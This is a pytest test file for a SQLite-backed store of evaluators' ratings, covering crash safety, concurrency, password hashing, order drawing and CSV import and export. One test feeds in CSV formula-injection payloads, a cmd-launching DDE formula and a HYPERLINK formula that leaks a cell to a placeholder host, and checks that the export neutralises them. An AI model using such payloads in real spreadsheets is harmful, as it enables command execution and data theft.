"""The ratings file: nothing acknowledged is lost, nothing is half-written, an order is drawn once."""

from __future__ import annotations

import csv
import hashlib
import random
import signal
import sqlite3
import stat
import subprocess
import sys
import threading
import time
from collections import Counter
from concurrent.futures import ThreadPoolExecutor
from contextlib import closing
from itertools import pairwise
from pathlib import Path

import pytest

from eval.rating import database, ratings
from eval.rating.database import FILE, StoreError
from eval.rating.questionnaire import FLAG, ITEMS
from eval.rating.ratings import Rating
from eval.rating.store import ORDERS, Store, draw

FORM = {**dict.fromkeys(ITEMS, "4"), FLAG: "0", "comment": "fine"}
NEEDED = (*ITEMS, FLAG)
CASES, ARMS = tuple(f"c{n}" for n in range(8)), ("a", "b", "c")
# Forms without end, each acknowledged on stdout after it was kept, with a breath in which another can write.
WRITER = """
import sys, time
sys.path.insert(0, sys.argv[1])
from eval.rating.store import Store
from eval.rating.questionnaire import FLAG, ITEMS
store, name, number = Store(sys.argv[2]), sys.argv[3], 0
while True:
    number += 1
    store.save("anna", name, f"c{number}", {**dict.fromkeys(ITEMS, "4"), FLAG: "0", "comment": "x" * 2000}, 1.0)
    print(number, flush=True)
    time.sleep(0.01)
"""


def forms_of(path: Path) -> Counter[tuple[str, str]]:
    with closing(sqlite3.connect(path / FILE)) as connection:
        rows = connection.execute("SELECT arm, case_id FROM answer").fetchall()
    return Counter(rows)


@pytest.mark.parametrize("seed", [0])
def test_killed_writers_lose_nothing_and_leave_nothing_half_written(tmp_path, seed):
    rng, acknowledged = random.Random(seed), set()
    for attempt in range(4):
        writers = {
            name: subprocess.Popen(
                [sys.executable, "-c", WRITER, str(Path(__file__).parents[3]), str(tmp_path), name],
                stdout=subprocess.PIPE, text=True,
            )
            for name in (f"{attempt}-first", f"{attempt}-second")
        }  # fmt: skip
        # Killed at a random moment after a random number of forms, however slow the disk is.
        said = {
            name: [writer.stdout.readline() for _ in range(rng.randint(1, 4))]
            for name, writer in writers.items()
        }
        assert all(line.strip() for lines in said.values() for line in lines)
        time.sleep(rng.uniform(0, 0.05))
        for writer in writers.values():
            writer.send_signal(signal.SIGKILL)
        for name, writer in writers.items():
            lines = [*said[name], *writer.communicate()[0].splitlines()]
            acknowledged |= {(name, f"c{int(line)}") for line in lines}
        Store(tmp_path)  # opens and is whole
        forms = forms_of(tmp_path)
        assert acknowledged <= forms.keys()
        assert set(forms.values()) == {len(FORM)}, "every form is there whole"
        unacknowledged = Counter(arm for arm, _ in forms.keys() - acknowledged)
        assert max(unacknowledged.values(), default=0) <= 1, "at most the one that was being answered for"


def test_many_that_open_a_new_file_at_once_all_succeed(tmp_path):
    def opened(folder: Path, barrier: threading.Barrier) -> Store:
        barrier.wait()
        return Store(folder)

    for attempt in range(25):  # without waiting, one in about thirty attempts failed
        folder, barrier = tmp_path / str(attempt), threading.Barrier(6)
        folder.mkdir()
        with ThreadPoolExecutor(6) as pool:
            for future in [pool.submit(opened, folder, barrier) for _ in range(6)]:
                future.result()


def test_threads_that_write_at_once_lose_nothing(tmp_path):
    stores = [Store(tmp_path), Store(tmp_path)]
    failed = []

    def work(store: Store, rater: str) -> None:
        try:
            for number in range(10):
                store.save(rater, "a", f"c{number}", FORM, 1.0)
        except Exception as error:
            failed.append(error)

    raters = ("anna", "bert", "cleo", "dora")
    threads = [threading.Thread(target=work, args=(stores[n % 2], name)) for n, name in enumerate(raters)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert failed == []
    assert Counter(row.rater for row in stores[0].current()) == dict.fromkeys(raters, 10 * len(FORM))


def test_newest_answer_counts_and_older_ones_stay(tmp_path):
    store = Store(tmp_path)
    store.save("anna", "a", "c1", FORM, 12.34)
    store.save("anna", "a", "c1", {**FORM, "privacy": "1", "comment": ""}, 3.0)
    current = {row.item: row for row in store.current()}
    assert (current["privacy"].value, current["privacy"].seconds) == ("1", "3.0")
    assert "comment" not in current, "a comment taken back is no comment"
    assert forms_of(tmp_path) == {("a", "c1"): 2 * len(FORM)}
    assert store.rated("anna", NEEDED) == {("a", "c1")}
    assert store.form("anna", "a", "c1")["privacy"] == "1"


def test_a_form_with_a_wrong_value_keeps_nothing(tmp_path):
    store = Store(tmp_path)
    with pytest.raises(ratings.RatingsError, match="willingness is '6'"):
        store.save("anna", "a", "c1", {**FORM, "willingness": "6"}, 1.0)
    assert store.current() == []
    store.save("anna", "a", "c1", {"own_diagnosis": " acne\r\nor\x00 \ud800rosacea "}, 1.0)
    assert store.own("anna", "c1") == {"own_diagnosis": "acne\nor rosacea"}
    assert store.rated("anna", NEEDED) == set(), "the own diagnosis alone is no form"


def test_the_first_own_diagnosis_of_a_case_is_the_only_one(tmp_path):
    """Also where two pages save theirs at once: each of them found none."""
    store = Store(tmp_path)
    for arm, text in (("a", "acne"), ("a", "what the text says"), ("b", "what the text says")):
        store.save("anna", arm, "c1", {"own_diagnosis": text}, 1.0)
    assert [(row.arm, row.value) for row in store.current()] == [("a", "acne")]
    for other in (("bert", "c1"), ("anna", "c2")):
        store.save(other[0], "b", other[1], {"own_diagnosis": "rosacea"}, 1.0)
        assert store.own(*other) == {"own_diagnosis": "rosacea"}


def test_a_hash_from_before_argon2_still_logs_in_and_is_replaced(tmp_path):
    store, salt = Store(tmp_path), b"0123456789abcdef"
    old = hashlib.scrypt(b"correct horse", salt=salt, n=2**14, r=8, p=1, dklen=32)
    with closing(sqlite3.connect(store.path)) as connection:
        connection.execute("INSERT INTO rater VALUES ('anna', ?, ?, '2026-01-01T00:00:00Z')", (salt, old))
        connection.commit()
    assert not store.login("anna", "correct hors")
    assert store.login("anna", "correct horse")
    with closing(sqlite3.connect(store.path)) as connection:
        salt, stored = connection.execute("SELECT salt, hash FROM rater").fetchone()
    assert (salt, stored[:31]) == (b"", b"$argon2id$v=19$m=65536,t=3,p=4$"), "at the cost of RFC 9106"
    assert store.login("anna", "correct horse")
    assert not store.login("anna", "correct hors")


def test_passwords(tmp_path):
    store = Store(tmp_path)
    store.add_rater("anna", "correct horse")
    store.add_rater("bert", "correct horse")
    assert store.login("anna", "correct horse")
    assert not store.login("anna", "correct hors")
    assert not store.login("nobody", "correct horse")
    assert not store.login("", "")
    content = b"".join(path.read_bytes() for path in tmp_path.iterdir())
    assert b"correct horse" not in content
    with closing(sqlite3.connect(store.path)) as connection:
        hashes = connection.execute("SELECT salt, hash FROM rater").fetchall()
    assert len({row[1] for row in hashes}) == 2, "salted: the same password looks different"
    assert stat.S_IMODE(store.path.stat().st_mode) == 0o600
    with pytest.raises(StoreError, match="--new-password"):
        store.add_rater("anna", "battery staple")
    store.add_rater("anna", "battery staple", replace=True)
    assert store.login("anna", "battery staple")
    assert not store.login("anna", "correct horse")
    for name, password, words in (
        ("x", "short", "8 to 1000 characters"),
        ("x", "l" * 1001, "8 to 1000"),
        ("a b", "long enough", "letters, digits"),
        ("NA", "long enough", "no word for"),
    ):
        with pytest.raises(StoreError, match=words):
            store.add_rater(name, password)
    with pytest.raises(StoreError, match="does not exist yet"):
        store.add_rater("nobody", "long enough", replace=True)


def test_order_is_drawn_once_for_each_rater(tmp_path):
    store = Store(tmp_path)
    first = store.sheets("anna", ARMS, CASES)
    assert sorted(sheet[1:] for sheet in first) == sorted((arm, case) for arm in ARMS for case in CASES)
    assert Store(tmp_path).sheets("anna", ARMS, CASES) == first, "the same after a restart"
    assert [s[1:] for s in store.sheets("bert", ARMS, CASES)] != [s[1:] for s in first]
    fewer = store.sheets("anna", ("a",), CASES[:3])
    assert fewer == [s for s in first if s.arm == "a" and s.case_id in CASES[:3]]
    more = store.sheets("anna", (*ARMS, "d"), CASES)
    assert more[: len(first)] == first, "what a run gains later is put behind"
    assert {s.arm for s in more[len(first) :]} == {"d"}
    assert [s.place for s in more] == list(range(len(more)))


def test_whoever_knows_cases_and_arms_cannot_work_out_an_order(tmp_path):
    orders = []
    for name in ("one", "two", "three"):
        (tmp_path / name).mkdir()
        orders.append([sheet[1:] for sheet in Store(tmp_path / name).sheets("anna", ARMS, CASES)])
    pairs = {(arm, case) for arm in ARMS for case in CASES}
    assert draw("anna", pairs, "") not in orders
    assert orders[0] != orders[1] != orders[2] != orders[0], "each file has an order of its own"
    secret = Store(tmp_path / "one").rows("SELECT value FROM setting WHERE name = ?", ORDERS)
    assert len(secret) == 1
    assert len(secret[0][0]) == 64
    Store(tmp_path / "one").sheets("bert", ARMS, CASES)
    assert Store(tmp_path / "one").rows("SELECT value FROM setting WHERE name = ?", ORDERS) == secret


def test_a_case_comes_back_only_in_the_next_round():
    pairs = {(arm, case) for arm in ARMS for case in CASES}
    arms_of_first_rounds: Counter[str] = Counter()
    for number in range(60):
        order = draw(f"rater{number}", pairs, "secret")
        for start in range(0, len(order), len(CASES)):
            assert {case for _, case in order[start : start + len(CASES)]} == set(CASES)
        assert all(a[1] != b[1] for a, b in pairwise(order)), "never twice running"
        arms_of_first_rounds.update(arm for arm, _ in order[: len(CASES)])
    assert min(arms_of_first_rounds.values()) > 120, "of 480 each arm has about 160"


def test_two_who_begin_at_once_share_one_order(tmp_path):
    found = []
    threads = [
        threading.Thread(target=lambda: found.append(Store(tmp_path).sheets("anna", ARMS, CASES)))
        for _ in range(4)
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert len(found) == 4
    assert all(order == found[0] for order in found)


def test_csv_round_trip_and_conflicts(tmp_path):
    (tmp_path / "one").mkdir(), (tmp_path / "two").mkdir()
    one, two = Store(tmp_path / "one"), Store(tmp_path / "two")
    one.save("anna", "a", "c1", {"own_diagnosis": 'acne, or "rosacea"\nperhaps'}, 8.0)
    one.save("anna", "a", "c1", FORM, 30.0)
    ratings.write_csv(one.current(), tmp_path / "r.csv")
    rows = ratings.read_ratings(tmp_path / "r.csv")
    assert rows == one.current()
    assert two.add(rows) == len(FORM) + 1
    assert two.current() == one.current()
    assert two.add(rows) == 0, "the same again is nothing new"
    other = [Rating("a", "c1", "anna", "privacy", "1"), Rating("a", "c2", "anna", "privacy", "1")]
    with pytest.raises(StoreError, match=r"1 of the imported answers.*anna, case c1, privacy"):
        two.add(other)
    assert two.current() == one.current(), "nothing was taken over"
    assert two.add(other, overwrite=True) == 2
    assert two.form("anna", "a", "c1")["privacy"] == "1"


def test_formulas_are_texts_in_the_csv_and_come_back(tmp_path):
    (tmp_path / "one").mkdir(), (tmp_path / "two").mkdir()
    one, two = Store(tmp_path / "one"), Store(tmp_path / "two")
    one.save("anna", "a", "c1", {"own_diagnosis": "@SUM(1+1)*cmd|' /C calc'!A0"}, 8.0)
    one.save("anna", "a", "c1", FORM | {"comment": '=HYPERLINK("http://x/?"&A1,"ok")'}, 30.0)
    one.save("anna", "a", "c2", FORM | {"comment": "'-1 is what I wrote"}, 30.0)
    ratings.write_csv(one.current(), tmp_path / "r.csv")
    with (tmp_path / "r.csv").open(newline="", encoding="utf-8") as file:
        cells = [cell for row in csv.reader(file) for cell in row]
    assert [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")] == []
    two.add(ratings.read_ratings(tmp_path / "r.csv"))
    assert two.current() == one.current()


def test_damaged_foreign_and_locked_files_get_a_sentence(tmp_path, monkeypatch):
    path = tmp_path / FILE
    path.write_bytes(b"no database at all, but long enough to be looked at" * 50)
    with pytest.raises(StoreError, match="is damaged"):
        Store(tmp_path)
    path.unlink()
    with closing(sqlite3.connect(path)) as connection:
        connection.execute("CREATE TABLE other (x)")
    with pytest.raises(StoreError, match="was not made by this version"):
        Store(tmp_path)
    path.unlink()
    store = Store(tmp_path)
    monkeypatch.setattr(database, "WAIT_SECONDS", 0.05)
    holder = sqlite3.connect(path, isolation_level=None)
    holder.execute("BEGIN IMMEDIATE")
    with pytest.raises(StoreError, match="is held by another program"):
        store.save("anna", "a", "c1", FORM, 1.0)
    holder.execute("ROLLBACK")
    holder.close()
    store.save("anna", "a", "c1", FORM, 1.0)
    with pytest.raises(StoreError, match="cannot be made"):
        Store(tmp_path / "nowhere")


def test_pages_of_a_damaged_file_are_noticed(tmp_path):
    store = Store(tmp_path)
    for number in range(60):
        store.save("anna", "a", f"c{number}", FORM, 1.0)
    with closing(sqlite3.connect(store.path)) as connection:
        connection.execute("PRAGMA wal_checkpoint(TRUNCATE)")
    content = bytearray(store.path.read_bytes())
    content[4096 * 3 : 4096 * 8] = b"\xff" * (4096 * 5)
    store.path.write_bytes(content)
    with pytest.raises(StoreError, match=r"is damaged.*--import"):
        Store(tmp_path)
